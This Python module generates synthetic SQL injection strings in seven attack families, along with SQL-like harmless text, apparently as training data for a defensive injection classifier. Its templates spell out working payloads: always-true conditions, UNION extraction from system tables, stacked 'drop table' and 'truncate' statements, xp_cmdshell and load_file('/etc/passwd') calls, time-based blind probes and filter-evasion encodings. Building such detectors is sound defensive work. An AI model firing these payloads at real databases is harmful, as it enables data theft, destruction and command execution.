"""What `train.py` learns from: attacks composed from the grammar of SQL, and harmless texts that look like them.

Nothing here is collected: every text is made from the word lists below, so that the model can be made again anywhere.
The families are those of Halfond, Viegas & Orso, A Classification of SQL Injection Attacks, ISSSE 2006.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from urllib.parse import quote, quote_plus

TABLES = [
    "users",
    "accounts",
    "orders",
    "customers",
    "admin",
    "members",
    "sessions",
    "products",
    "invoices",
    "agents",
    "payments",
    "logs",
]
COLUMNS = [
    "id",
    "name",
    "password",
    "email",
    "user",
    "pass",
    "token",
    "secret",
    "balance",
    "role",
    "login",
    "hash",
    "card",
    "phone",
]
SYSTEM = [
    "information_schema.tables",
    "information_schema.columns",
    "information_schema.system_users",
    "sysibm.sysdummy1",
    "mysql.user",
    "pg_shadow",
    "pg_catalog.pg_user",
    "sys.objects",
    "master..sysdatabases",
    "all_tables",
    "dual",
    "sqlite_master",
    "sysmaster:sysdual",
    "rdb$database",
    "msysaccessobjects",
    "all_users",
    "domain.domains",
]
WORDS = [
    "the",
    "a",
    "our",
    "your",
    "new",
    "old",
    "big",
    "small",
    "red",
    "table",
    "chair",
    "menu",
    "report",
    "committee",
    "union",
    "select",
    "from",
    "where",
    "order",
    "group",
    "by",
    "and",
    "or",
    "not",
    "insert",
    "update",
    "delete",
    "drop",
    "create",
    "join",
    "left",
    "right",
    "values",
    "into",
    "set",
    "null",
    "like",
    "between",
    "exists",
    "case",
    "when",
    "then",
    "else",
    "end",
    "best",
    "good",
    "customer",
    "agent",
    "model",
    "prompt",
    "answer",
    "question",
    "please",
    "could",
    "would",
    "should",
    "meeting",
    "budget",
    "number",
    "list",
    "item",
    "value",
    "water",
    "light",
    "street",
    "house",
    "garden",
    "school",
    "office",
    "city",
    "train",
    "coffee",
    "dinner",
    "lunch",
    "music",
    "movie",
    "game",
    "team",
    "player",
    "score",
    "season",
    "price",
    "deal",
    "market",
    "stock",
    "bank",
    "credit",
    "union",
    "western",
    "european",
    "soviet",
    "student",
    "trade",
    "labor",
    "rugby",
    "execute",
    "sleep",
    "wait",
    "delay",
    "benchmark",
    "load",
    "file",
    "char",
    "count",
    "having",
    "limit",
    "offset",
    "database",
    "schema",
    "query",
    "column",
    "row",
    "data",
    "error",
    "warning",
    "failed",
    "success",
    "script",
    "image",
    "link",
    "button",
    "page",
    "site",
    "login",
    "user",
    "account",
    "password",
    "reset",
    "email",
    "phone",
    "address",
    "name",
    "first",
    "last",
    "middle",
]
NAMES = [
    "o'brien",
    "d'angelo",
    "maria",
    "juan",
    "lópez",
    "garcía",
    "smith",
    "o'neil",
    "anna",
    "müller",
    "françois",
    "d'arc",
    "l'oréal",
    "mac'kenzie",
    "josé",
    "bjørn",
]


def _word(r: random.Random) -> str:
    return "".join(r.choices(string.ascii_letters if r.random() < 0.5 else string.ascii_lowercase, k=r.randint(3, 7)))


def _number(r: random.Random) -> str:
    return str(r.choice((1, 0, -1, r.randint(1, 9), r.randint(10, 99), r.randint(1000, 9999), r.randint(1000, 9999))))


def _breakout(r: random.Random) -> str:
    """What ends the value that the application put around the text."""
    negative = f"-{r.randint(1000, 9999)}"
    start = r.choice(("", "1", "1", _number(r), _word(r), negative, negative, "-1", "admin", "x", "%"))
    return start + r.choice(("", "'", '"', "%'", '%"', "`", "'")) + ")" * r.choice((0, 0, 0, 1, 1, 2, 3))


def _ending(r: random.Random) -> str:
    word, n = _word(r), _number(r)
    quote_ = r.choice("'\"")
    parens = "(" * r.choice((0, 1, 2, 3))
    return r.choice(
        (
            "", "--", "-- ", "#", ";--", "/*", f"-- {word}", ";%00", f" and {parens}{n}={n}", f" or {parens}{quote_}{word}{quote_}={quote_}{word}",
            f" and {parens}{quote_}{word}{quote_} like {quote_}{word}", f" and {parens}{quote_}%{quote_}={quote_}", f" and {quote_}{word}{quote_}={quote_}{word}",
        )
    )  # fmt: skip


def _function(r: random.Random) -> str:
    """An expression that databases have and prose has not."""
    n, w = _number(r), _word(r)
    chars = "||".join(f"{r.choice(('char', 'chr'))}({r.randint(65, 122)})" for _ in range(r.randint(2, 4)))
    return r.choice(
        (
            f"concat(0x{r.randbytes(4).hex()},(select ({n}={n})),0x{r.randbytes(4).hex()})", chars, "@@version", "version()", "user()", "database()", "current_user",
            f"(select {r.choice(COLUMNS)} from {r.choice(TABLES)} limit 1)", f"cast(({chars}) as numeric)", f"repeat({r.choice(('left', 'right'))}({chars},0),500000000)",
            f"0x{r.randbytes(6).hex()}", f"char({r.randint(60, 120)})+char({r.randint(60, 120)})", f"md5({n})", f"elt({n}={n},1)", f"regexp_substring(repeat({chars},5000),null)",
            f"crypt_key(char({r.randint(60, 99)})||char({r.randint(60, 99)}),null)", "count(*)", f"exists(select * from {r.choice(TABLES)})", f"substring({r.choice(COLUMNS)},1,1)", f"ascii({w})",
        )
    )  # fmt: skip


def tautology(r: random.Random) -> str:
    """A condition that is always true or false."""
    n, w = _number(r), _word(r)
    q = r.choice("'\"")
    if r.random() < 0.15:  # in place of the value, not behind it
        claim = f"{n}={r.choice((n, _number(r)))}"
        return r.choice(
            (f"make_set({claim},{n})", f"elt({claim},{n})", f"({claim})*{n}", f"iif({claim},{n},1/0)", f"(select ({claim}))", f"{n} rlike {n}", f"'||({claim})||'", f"(case when {claim} then {n} else 1/(select 0) end)")
        )  # fmt: skip
    claim = r.choice(
        (
            f"{n}={n}", f"{n}={_number(r)}", f"{q}{w}{q}={q}{w}{q}", f"{q}{w}{q}={q}{w}", f"{n} like {n}", f"{n}<{_number(r)}", "true", "not false", f"{n} in ({n})", f"{n} between 0 and {n}",
            f"{n}={n} {r.choice(('and', 'or'))} {q}{w}{q} like {q}{w}", f"{q}{q}={q}", f"{n} is not null", f"({n}={n})", f"{n} rlike {n}", f"not {n}={n}", f"({n}={n})*{n}", f"length({r.choice(COLUMNS)})>{n}",
            f"{n} rlike (select (case when ({n}={n}) then {n} else 0x28 end))", f"make_set({n}={n},{n})", f"elt({n}={n},{n})",
        )
    )  # fmt: skip
    return f"{_breakout(r)} {r.choice(('or', 'and', '||', '&&', 'or not', 'xor', 'where', 'having'))} {'(' * r.choice((0, 0, 1))}{claim}{_ending(r)}"


def illegal_query(r: random.Random) -> str:
    """One whose error tells something."""
    n = _number(r)
    body = r.choice(
        (
            f"and extractvalue({n},concat(0x5c,{_function(r)}))", f"and updatexml({n},concat(0x2e,{_function(r)}),{n})", f"and {n}=convert(int,({_function(r)}))", f"and {n}=cast({_function(r)} as numeric)",
            f"and (select {n} from(select count(*),concat({_function(r)},floor(rand(0)*2))x from {r.choice(SYSTEM)} group by x)a)", f"procedure analyse(extractvalue({n},concat(0x5c,{_function(r)})),1)",
            f"and {n}=ctxsys.drithsx.sn({n},({_function(r)}))", f"and {n}=utl_inaddr.get_host_address({_function(r)})", f"or row({n},{n})>(select count(*),concat({_function(r)},floor(rand(0)*2)) x from {r.choice(SYSTEM)} group by x)",
            f"order by {n}", f"group by {r.choice(COLUMNS)} having {n}={n}", f",exp(~(select * from (select {_function(r)})x))", f"and {n}=(select upper(xmltype(chr(60)||chr(58)||({_function(r)}))) from dual)",
            f"and gtid_subset({_function(r)},{n})", f"and json_keys((select convert((select {_function(r)}) using utf8)))", f";iif({n}={_number(r)},1,1/0)", f" iif({n}={n},{n},1/0)",
        )
    )  # fmt: skip
    return f"{_breakout(r)}{r.choice((' ', ' ', '', ','))}{body}{_ending(r)}"


def union_query(r: random.Random) -> str:
    """One that adds rows of another table."""
    constant = _number(r)
    same = r.random() < 0.4  # as the tools do that try how many columns there are
    columns = ",".join(
        constant if same else r.choice(("null", _number(r), r.choice(COLUMNS), _function(r)))
        for _ in range(r.randint(1, 10))
    )
    source = r.choice(
        (
            "",
            f" from {r.choice(TABLES)}",
            f" from {r.choice(SYSTEM)}",
            f" from {r.choice(TABLES)} where {r.choice(COLUMNS)}='{_word(r)}'",
        )
    )
    return f"{_breakout(r)} union {r.choice(('', 'all ', 'distinct '))}select {columns}{source}{_ending(r)}"


def piggy_backed(r: random.Random) -> str:
    """A second statement behind the first."""
    n, t, c = _number(r), r.choice(TABLES), r.choice(COLUMNS)
    statement = r.choice(
        (
            f"drop table {t}", f"insert into {t} values ({n},'{_word(r)}')", f"update {t} set {c}='{_word(r)}' where {n}={n}", f"delete from {t}", "shutdown", f"create table {_word(r)}({c} int)",
            f"select case when {n}={_number(r)} then 1 else null end", f"select * from {t}", f"begin {_word(r)} end", f"alter table {t} drop column {c}", f"truncate table {t}", f"declare @{_word(r)} varchar(99)",
            f"select * from generate_series({n},{n},case when ({n}={n}) then 1 else 0 end) limit 1", f"if({n}={n}) select {n} else drop function {_word(r)}", f"call regexp_substring(repeat({_function(r)},500000000),null)",
        )
    )  # fmt: skip
    return f"{_breakout(r)};{r.choice(('', ' '))}{statement}{_ending(r)}"


def stored_procedure(r: random.Random) -> str:
    """One that makes the database do something."""
    call = r.choice(
        (
            "exec master..xp_cmdshell 'dir'", "exec xp_cmdshell('whoami')", "exec sp_executesql N'select 1'", "select load_file('/etc/passwd')", f"select 1 into outfile '/tmp/{_word(r)}'", "exec xp_regread 'hkey_local_machine'",
            f"execute immediate '{_word(r)}'", "select utl_http.request('http://x') from dual", "exec sp_password null", f"copy (select '') to program '{_word(r)}'", "select lo_import('/etc/passwd')", f"select pg_read_file('{_word(r)}')",
        )
    )  # fmt: skip
    return f"{_breakout(r)}{r.choice((';', '; ', ' union ', ' '))}{call}{_ending(r)}"


def inference(r: random.Random) -> str:
    """One whose delay or answer tells a bit."""
    n, s = _number(r), r.choice(("5", "0", "10", "[sleeptime]"))
    body = r.choice(
        (
            f"and sleep({s})", f"and (select * from (select(sleep({s})))x)", f"or sleep({s})", f";waitfor delay '0:0:{s}'", f" waitfor delay '0:0:{s}'", f"and benchmark(5000000,md5({n}))", f";select pg_sleep({s})", f"and {n}=(select {n} from pg_sleep({s}))",
            f"and {n}=dbms_pipe.receive_message(chr(65)||chr(66),{s})", f"(select (case when ({n}={n}) then {_function(r)} else {_function(r)} end))", f"(select (case when ({n}={n}) then {_function(r)} else {_function(r)} end) from {r.choice(SYSTEM)})",
            f"and if(substring({r.choice(COLUMNS)},1,1)='{_word(r)[0]}',sleep({s}),0)", f"and ascii(substr((select {r.choice(COLUMNS)} from {r.choice(TABLES)}),1,1))>{n}", f";(select * from (select(sleep({s})))x)", f"and {n}=randomblob(500000000/2)",
            f"and {n}=(select count(*) from {r.choice(SYSTEM)} as t1,{r.choice(SYSTEM)} as t2)", f"rlike sleep({s})", f" where {n}={n} (select (case when ({n}={n}) then {_function(r)} end) from (values(0)))", f"and {n}=like('abcdefg',upper(hex(randomblob(500000000/2))))",
            "select count(*) from generate_series(1,5000000)", f"(select {n} from generate_series({n},{n},case when ({n}={n}) then 1 else 0 end) limit 1)",
        )
    )  # fmt: skip
    return f"{_breakout(r)}{r.choice((' ', ' ', '', ','))}{body}{_ending(r)}"


def alternate_encoding(r: random.Random) -> str:
    """One of the others, written so that filters do not know it."""
    text = r.choice((tautology, union_query, inference, piggy_backed))(r)
    return r.choice(
        (
            lambda t: t.replace(" ", "/**/"), lambda t: t.replace(" ", "+"), quote, quote_plus, lambda t: t.replace("select", "/*!50000select*/").replace(" or ", " /*!or*/ "), lambda t: t.replace("'", "%27"),
            lambda t: "".join(c.upper() if r.random() < 0.5 else c for c in t), lambda t: t.replace(" ", r.choice(("%09", "%0a", "%0d%0a", "\t", "\n"))), lambda t: t.replace("'", "\\'"), lambda t: t.replace(" ", "  "),
        )
    )(text)  # fmt: skip


FAMILIES: dict[str, Callable[[random.Random], str]] = {
    "tautology": tautology,
    "illegal_query": illegal_query,
    "union_query": union_query,
    "piggy_backed": piggy_backed,
    "stored_procedure": stored_procedure,
    "inference": inference,
    "alternate_encoding": alternate_encoding,
}


def harmless(r: random.Random) -> str:
    """Values of forms and sentences, many with the words and signs of SQL."""
    n = r.randint(0, 10 ** r.randint(1, 9))

    def words(k: int) -> str:
        return " ".join(r.choices(WORDS, k=k))

    def capital(text: str) -> str:
        return text[:1].upper() + text[1:]

    return r.choice(
        (
            lambda: str(n), lambda: _word(r), lambda: f"{_word(r)}.{_word(r)}@{_word(r)}.{r.choice(('com', 'org', 'es', 'io'))}", lambda: r.choice(NAMES), lambda: f"{r.choice(NAMES)} {r.choice(NAMES)}",
            lambda: f"{_word(r)} street, {r.randint(1, 200)}, {r.randint(1, 9)}{r.choice('abc')}", lambda: f"{n}{r.choice(string.ascii_lowercase)}", lambda: words(r.randint(1, 4)), lambda: words(r.randint(4, 24)) + ".",
            lambda: capital(words(r.randint(5, 18))) + r.choice((".", "!", "?", "; " + words(5) + ".", ", " + words(6))), lambda: f"{capital(words(3))}: {words(4)} ({words(2)}); {words(3)}", lambda: f"\"{words(4)}\" - {words(3)}",
            lambda: f"it's {words(5)}, isn't it? {r.choice(NAMES)} said '{words(4)}'", lambda: f"{words(3)} -- {words(4)}", lambda: f"C# or {_word(r)} and F#; {words(3)}", lambda: f"select {words(2)} from the {r.choice(WORDS)} {r.choice(('menu', 'list', 'team'))}",
            lambda: f"union {r.choice(('members', 'station', 'square', 'jack'))} select {words(3)}", lambda: f"1 and a half, 2 or 3 {words(2)}", lambda: f"{r.randint(1, 9)} = {r.choice(('one', 'two'))} and {words(2)}", lambda: f"<b>{words(3)}</b>",
            lambda: f"x = {n}; y = {n + 1}", lambda: f"if {_word(r)} or {_word(r)}: return {n}", lambda: f"{_word(r)}({_word(r)}, {n})", lambda: '{"' + _word(r) + '": "' + words(3) + '", "id": ' + str(n) + "}", lambda: f"{_word(r)}={_word(r)}&{_word(r)}={n}",
            lambda: f"https://{_word(r)}.com/{_word(r)}?{_word(r)}={n}&{_word(r)}={_word(r)}#{_word(r)}", lambda: f"/{_word(r)}/{_word(r)}/{n}", lambda: "".join(r.choices(string.ascii_letters + string.digits, k=r.randint(6, 40))), lambda: r.randbytes(16).hex(),
            lambda: f"{r.choice('+-')}{n / 100}%", lambda: f"{n:,} {r.choice(('USD', 'EUR', '€'))}", lambda: f"({r.randint(100, 999)}) {r.randint(100, 999)}-{r.randint(1000, 9999)}", lambda: f"20{r.randint(10, 29)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}T1{r.randint(0, 9)}:00:00Z",
            lambda: f"please {r.choice(('drop', 'update', 'delete', 'insert', 'create'))} the {r.choice(WORDS)} {r.choice(('table', 'row', 'column', 'database'))} {words(3)}", lambda: f"rock 'n' roll {words(2)}", lambda: f"5 o'clock or {words(2)} '{r.randint(10, 99)}",
            lambda: f"{words(2)} {r.choice(('AND', 'OR', 'NOT'))} {words(2)}", lambda: f"<{_word(r)}@{_word(r)}.com>", lambda: f"{words(2)}; {words(3)} (e.g. {words(2)}) & {words(1)}", lambda: f"SELECT-{n}", lambda: f"having {words(3)} order by {r.choice(('phone', 'mail', 'noon'))}",
            lambda: f" {r.choice(('AND', 'OR', '-', ';', ','))} ".join(f'"{words(r.randint(1, 2))}"' for _ in range(r.randint(1, 4))), lambda: f"/search/{_word(r)}?q=\"{words(2).replace(' ', '+')}\"&order={_word(r)}&page={r.randint(1, 30)}&ship_to={_word(r)}",
            lambda: ";".join(r.choice((str(r.randint(0, 2)), _word(r), "")) for _ in range(r.randint(2, 8))), lambda: "{% " + _word(r) + "|" + _word(r) + ":'%B %d, %Y' %} " + words(3), lambda: "".join(r.choices("'\";:-=<>()[]{}|&*/#+.,!?$%@^~`_ ", k=r.randint(1, 10))) + r.choice(("", _word(r), str(n))),
            lambda: f"{_word(r)}{r.choice(('=', '||', '&&', '<', '>', '->', '::', '#', '&'))}{r.choice((_word(r), str(n)))}{r.choice(('', ';-', '--', '=', '&', '/*', '*'))}", lambda: f"{r.randint(1, 9999)}{r.choice('/-')}{''.join(r.choices(string.ascii_letters + string.digits, k=r.randint(8, 24)))}{r.choice(('', '--', '=', '=='))}",
            lambda: words(r.randint(2, 9)).upper(), lambda: f"{words(2)} {r.randint(1, 60)}\" x {r.randint(1, 60)}\" {words(2)}", lambda: " -".join(words(1) for _ in range(r.randint(2, 9))), lambda: f"{r.choice(('DELETE', 'SELECT', 'EXEC', 'UNION', 'AND', 'OR', 'INSERT', 'DROP'))} {_word(r)}{r.choice('$%&#=.')}", lambda: f"<{_word(r)} {_word(r)}=\"{n}\" {_word(r)}='{words(1)}'>",
            lambda: f"{r.randint(0, 9)}{r.choice('),(')}{r.choice((' ', ''))}{_word(r)[:1]}-{_word(r)[:1]}={_word(r)[:1]}", lambda: f"-{n}", lambda: f"{r.choice(NAMES)[0]}'{_word(r)} {r.choice(('and', 'or'))} {words(2)}", lambda: f"1 {r.choice(('or', 'and'))} {r.randint(2, 9)} {words(2)}",
        )
    )()  # fmt: skip


def attack(r: random.Random) -> str:
    """A text of one of the families."""
    return r.choice(tuple(FAMILIES.values()))(r)
